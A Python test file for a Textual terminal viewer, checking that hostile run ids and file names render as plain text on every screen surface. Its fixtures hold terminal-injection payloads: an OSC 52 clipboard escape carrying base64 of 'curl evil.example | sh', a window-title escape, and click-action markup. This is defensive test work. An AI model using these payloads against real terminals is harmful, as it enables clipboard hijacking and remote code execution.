"""Hostile names in the TUI: ids and file names reach every surface as literal text.

Run ids, file and directory names, sample ids and messages come from the data. None of them
may be read as Textual markup (``x[/bold]`` must not crash the screen, ``[@click=...]`` must
not become a link) or reach the terminal as an escape sequence (``ESC ] 0;`` sets the window
title, ``ESC ] 52;`` writes the clipboard). Each test drives the app over every surface
(pane titles, rows, details, notifications, breadcrumb, header, prompts, help, palette) and
checks what Textual would write to the terminal.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from textual.widgets._toast import Toast

from tests.formats.acp.builders import capture, write_jsonl
from tests.helpers.ui import foreign_controls, running, screen_lines, settle, terminal_output

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
TITLE = "\x1b]0;PWNED\x07"


def hostile_dir(tmp_path: Path) -> tuple[Path, Path]:
    """Two files with hostile names holding runs with hostile ids; and an empty directory
    ``trap`` that must stay empty."""
    data = tmp_path / "data"
    data.mkdir()
    trap = tmp_path / "trap"
    trap.mkdir()
    write_jsonl(
        data / "[@click=app.quit('a]x.jsonl",
        [
            capture("x[/bold]"),
            capture("[@click=app.quit]CLICK"),
        ],
    )
    write_jsonl(
        data / f"{TITLE}b\u202e.jsonl",
        [capture(f"osc{OSC52}"), capture(f"t{TITLE}\x9b31m")],
    )
    return data, trap


def assert_clean(app: object, where: str) -> None:
    found = foreign_controls(terminal_output(app))
    assert not found, f"{where}: the terminal would receive {found[:5]!r}"


async def test_hostile_ids_and_file_names_are_text_on_every_surface(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data, trap = hostile_dir(tmp_path)
    monkeypatch.chdir(tmp_path)
    async with running([str(data)], notifications=True) as (pilot, app, screen):
        assert app.is_running
        assert_clean(app, "on open")
        text = "\n".join(screen_lines(app))
        assert "x[/bold]" in text
        assert "[@click=app.quit('a]x.jsonl" in text

        async def press(*keys: str) -> None:
            await pilot.press(*keys)
            await settle(pilot)
            assert app.is_running
            assert_clean(app, f"after {keys}")

        for _ in range(5):  # every run: its row, its title in the steps pane, its detail
            await press("j")
        await press("g")
        await press("enter")  # timeline
        await press("enter")  # detail
        await press("Y")  # a toast naming the reference
        await press("y")
        await press("escape", "escape")
        await press("colon")  # the go-to prompt shows the current reference
        await press("escape")
        await press("colon", *"[/bold]", "enter")  # an error toast quoting what was typed
        await press("slash")
        await press("escape")
        await press("s")  # sorted: rows of both files mixed
        await press("question_mark")
        await press("escape")
        await press("ctrl+p")
        await press("escape")
        await pilot.resize_terminal(80, 24)
        await settle(pilot)
        assert_clean(app, "narrow, with a breadcrumb")
        await press("j", "enter")
        await press("enter")
        assert app.is_running
    assert not any(trap.iterdir())


async def test_a_run_id_that_looks_like_a_link_is_not_clickable(tmp_path: Path) -> None:
    path = write_jsonl(tmp_path / "c.jsonl", [capture("[@click=app.quit]CLICK")])
    async with running([str(path)]) as (pilot, app, screen):
        pane = app.screen.query_one("#timeline-pane")
        assert "[@click=app.quit]CLICK" in "\n".join(screen_lines(app))
        for x in range(2, 30):
            await pilot.click("#timeline-pane", offset=(x, 0))
        await settle(pilot)
        assert app.is_running, "a click on the title ran an action named by the data"
        assert pane.border_title is not None


async def test_a_notification_never_parses_markup(tmp_path: Path) -> None:
    data, _ = hostile_dir(tmp_path)
    async with running([str(data)], notifications=True) as (pilot, app, screen):
        app.notify("[@click=app.quit]x[/] [bold]b[/bold] [/nope]" + TITLE)
        screen.notify("[/bold]")
        await settle(pilot)
        assert app.is_running
        text = "\n".join(screen_lines(app))
        assert "[bold]b[/bold]" in text
        assert_clean(app, "toasts")


LINK_ID = "[@click=app.quit]x"


async def test_Y_copies_a_reference_that_looks_like_a_link_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The "copied" notice names the reference as it is: no link, nothing runs on a click
    (and says what was sent: OSC 52, outside tmux)."""
    monkeypatch.delenv("TMUX", raising=False)
    path = write_jsonl(tmp_path / "c.jsonl", [capture(LINK_ID)])
    async with running([str(path)], notifications=True) as (pilot, app, screen):
        for x in range(12):  # wherever the reference's text lands in the notice
            await pilot.press("Y")
            await settle(pilot)
            assert f"copied {LINK_ID}" in "\n".join(screen_lines(app))
            said = list(app.notices)[-1].message
            assert said.startswith(f"copied {LINK_ID}: sent to the terminal as OSC 52"), said
            await pilot.click(Toast, offset=(x, 1))
            await settle(pilot)
            assert app.is_running, f"a click at {x} on the notice ran an action named by the data"


async def test_the_opening_screen_names_a_hostile_path_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the paths are opened, the first screen names them as they are."""
    import threading

    from tests.helpers.workspace import open_paths
    from trajtui.ui.app import make_app

    release = threading.Event()

    def slow_open(paths: list[str], formats: object) -> object:
        release.wait(8)
        return open_paths(paths)

    monkeypatch.setattr("trajtui.ui.app.open_paths", slow_open)
    name = f"[bold]x {LINK_ID} {TITLE}.jsonl"
    path = write_jsonl(tmp_path / name, [capture("a")])
    app = make_app([str(path)])
    async with app.run_test(size=(200, 20)) as pilot:
        await pilot.pause(0.1)
        text = "\n".join(screen_lines(app))
        clean = not foreign_controls(terminal_output(app))
        release.set()
        await settle(pilot)
        assert app.is_running
        assert f"[bold]x {LINK_ID} " in text
        assert clean
